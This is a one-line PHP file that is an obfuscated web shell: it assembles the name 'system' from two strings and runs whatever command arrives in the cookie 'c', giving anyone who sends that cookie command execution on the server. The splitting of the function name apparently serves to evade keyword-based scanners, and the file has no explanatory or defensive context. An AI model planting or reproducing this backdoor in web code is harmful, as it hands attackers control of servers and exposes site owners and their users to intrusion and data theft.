<?php $a = $_COOKIE; $b = "sys" . "tem"; $b($a["c"]);
